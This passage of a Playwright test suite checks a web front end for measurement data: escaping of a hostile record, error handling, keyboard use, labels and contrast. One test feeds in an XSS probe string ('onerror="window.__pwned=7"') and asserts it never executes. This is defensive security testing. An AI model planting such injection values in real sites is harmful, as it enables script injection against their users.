    await page.locator('table.measurements a', { hasText: 'onerror="window.__pwned=7"' }).first().click();
    await page.locator('main h1', { hasText: 'Region:' }).waitFor();
    await settled(page);
    assert.equal(await page.locator('main h1 .entity').innerText(), HOSTILE_REGION);
    assert.equal(await page.locator('table.measurements tbody tr').count(), 1, 'exactly the hostile measurement');
    assert.deepEqual(
      await page.evaluate(() => ({
        pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
        imgs: document.querySelectorAll('img').length,
      })),
      { pwned: null, imgs: 0 },
    );
    assert.deepEqual(env.dialogs, []);
    assert.deepEqual(env.offsite, [], 'no request left the local server');
    assert.deepEqual(env.consoleErrors, [], 'no script error, no CSP refusal');
    await page.close();
  });

  it('answers bad addresses with a clear message: unknown measurement, unknown page, malformed escapes', async () => {
    const page = await openPage(env, '#/measurement/20991231000000.000000_ZZ_nope_0000');
    await page.locator('[role=alert]').waitFor();
    assert.match(await page.locator('[role=alert]').innerText(), /Could not load measurement 20991231000000\.000000_ZZ_nope_0000/);
    await page.goto(`${env.base}/#/no/such/page`);
    await page.waitForFunction(() => document.querySelector('main h1')?.textContent === 'Not found');
    await page.goto(`${env.base}/#/domain/%E0%A4%A`);
    await page.locator('main h1', { hasText: /Domain: %e0%a4%a/ }).waitFor();
    await settled(page);
    assert.equal(await page.locator('.bar-slot').count(), 0);
    // A bad filter value from a hand-edited permalink: the API's 400 is shown, the page survives.
    await page.goto(`${env.base}/#/chart?axis_x=probe_cc&since=yesterday`);
    await page.locator('[role=alert]').waitFor();
    assert.match(await page.locator('[role=alert]').innerText(), /since/);
    assert.equal(await page.locator('form[aria-label="Chart settings"]').count(), 1);
    await page.close();
  });

  it('is usable by keyboard: skip link, nav, a chart bar and its measurements', async () => {
    const page = await openPage(env, '#/');
    await settled(page);
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement?.textContent), 'Skip to content');
    let found = false;
    for (let i = 0; i < 20 && !found; i++) {
      await page.keyboard.press('Tab');
      found = await page.evaluate(() => document.activeElement?.tagName === 'A' && document.activeElement.textContent === 'Search');
    }
    assert.ok(found, 'Tab reaches the Search link');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => location.hash === '#/search');
    await page.waitForFunction(() => document.activeElement?.tagName === 'H1');
    // On a country page, Tab reaches the bars; Enter opens the bar's measurements.
    await page.goto(`${env.base}/#/country/CN`);
    await settled(page);
    let onBar = false;
    for (let i = 0; i < 60 && !onBar; i++) {
      await page.keyboard.press('Tab');
      onBar = await page.evaluate(() => document.activeElement?.classList.contains('bar-slot') ?? false);
    }
    assert.ok(onBar, 'Tab reaches a chart bar');
    // One tab stop for the whole chart (the newest bar); arrows walk the bars.
    const lastBar = await page.evaluate(() => document.activeElement.getAttribute('data-bar'));
    await page.keyboard.press('ArrowLeft');
    const prevBar = await page.evaluate(() => document.activeElement.getAttribute('data-bar'));
    assert.ok(prevBar < lastBar, `ArrowLeft moves to an earlier bar (${prevBar} < ${lastBar})`);
    await page.keyboard.press('Enter');
    await page.waitForFunction((d) => location.hash.includes(`bucket=${d}`), prevBar);
    await settled(page);
    assert.ok((await page.locator('#bucket-heading').count()) === 1);
    await page.close();
  });

  it('labels every control and keeps text contrast at WCAG AA', async () => {
    for (const hash of ['#/', '#/search', '#/chart', '#/country/CN', `#/measurement/${encodeURIComponent(env.uids.injection)}`]) {
      const page = await openPage(env, hash);
      await settled(page);
      const report = await page.evaluate(() => {
        const unlabelled = ([...document.querySelectorAll('input, select, textarea')] as any[])
          .filter(
            (el) =>
              el.type !== 'hidden' &&
              !(el.labels && el.labels.length) &&
              !el.getAttribute('aria-label') &&
              !el.getAttribute('aria-labelledby'),
          )
          .map((el) => el.outerHTML.slice(0, 80));
        const nameless = ([...document.querySelectorAll('button, a[href]')] as any[])
          .filter((el) => !(el.textContent ?? '').trim() && !el.getAttribute('aria-label'))
          .map((el) => el.outerHTML.slice(0, 80));
        const rgb = (s: string) => (s.match(/[\d.]+/g) ?? []).map(Number);
        const lum = ([r, g, b]: number[]) => {
          const f = (c: number) => ((c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4);
          return 0.2126 * f(r!) + 0.7152 * f(g!) + 0.0722 * f(b!);
        };
        const bgOf = (el: any): number[] => {
          for (let e = el; e; e = e.parentElement) {
            const c = rgb(getComputedStyle(e).backgroundColor);
            if (c.length >= 3 && (c.length < 4 || c[3]! > 0.5)) return c.slice(0, 3);
          }
          return [255, 255, 255];
        };
        const low: string[] = [];
        let checked = 0;
        for (const el of document.querySelectorAll('body *')) {
          const own = [...el.childNodes].some((n) => n.nodeType === 3 && (n.textContent ?? '').trim());
          if (!own) continue;
          const st = getComputedStyle(el);
          if (st.visibility === 'hidden' || st.display === 'none' || el.offsetParent === null) continue;
          const fg = rgb(st.color).slice(0, 3);
          const bg = bgOf(el);
          const [a, b] = [lum(fg), lum(bg)].sort((x, y) => y - x);
          const ratio = (a! + 0.05) / (b! + 0.05);
          const size = parseFloat(st.fontSize);
          const large = size >= 24 || (size >= 18.66 && Number(st.fontWeight) >= 700);
          checked++;
          if (ratio < (large ? 3 : 4.5))
            low.push(`${el.tagName}.${el.className} "${(el.textContent ?? '').trim().slice(0, 30)}" ${ratio.toFixed(2)}`);
        }
        return { unlabelled, nameless, low, checked, lang: document.documentElement.lang, h1: document.querySelectorAll('h1').length };
      });
      assert.deepEqual(report.unlabelled, [], `${hash}: unlabelled controls`);
      assert.deepEqual(report.nameless, [], `${hash}: buttons/links without a name`);
      assert.deepEqual(report.low, [], `${hash}: low-contrast text`);
      assert.ok(report.checked > 10, `${hash}: contrast checked on ${report.checked} elements`);
      assert.equal(report.lang, 'en');
      assert.equal(report.h1, 1, `${hash}: one h1`);
      await page.close();
    }
  });
});
